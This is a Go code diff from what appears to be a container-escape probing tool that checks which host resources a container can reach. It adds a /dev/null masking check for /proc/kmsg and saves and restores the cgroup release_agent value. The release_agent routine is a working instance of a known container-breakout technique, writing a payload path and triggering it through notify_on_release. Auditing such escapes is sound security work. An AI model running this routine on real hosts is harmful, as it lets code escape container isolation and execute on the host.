@@ -90,7 +90,11 @@ func (a *attack) rule(proc *os.Root) {
 			continue
 		}
 		if name == "kmsg" { // reading takes from it
-			a.reached("the kernel's log")
+			var st, null unix.Stat_t
+			_, _ = unix.Fstat(int(f.Fd()), &st), unix.Stat("/dev/null", &null)
+			if st.Rdev == 0 || st.Rdev != null.Rdev {
+				a.reached("the kernel's log")
+			}
 		} else if n, _ := f.Read(make([]byte, 64)); n > 0 {
 			a.reached("what %s of /proc says", name)
 		}
@@ -210,12 +214,14 @@ func mountAgents(a *attack) {
 		if unix.Mount("none", at, kind, 0, c) != nil {
 			continue
 		}
+		before, _ := os.ReadFile(at + "/release_agent")
 		if os.WriteFile(at+"/release_agent", []byte(a.words[0]), 0o644) == nil {
 			a.reached("release_agent of %q", c)
 			_ = os.WriteFile(at+"/notify_on_release", []byte("1"), 0o644)
 			_ = os.Mkdir(at+"/escape", 0o755)
 			_ = os.Remove(at + "/escape")
 			time.Sleep(100 * time.Millisecond)
+			_ = os.WriteFile(at+"/release_agent", before, 0o644) // the host is not to be left like that
 		}
 		_ = unix.Unmount(at, unix.MNT_DETACH)
 	}
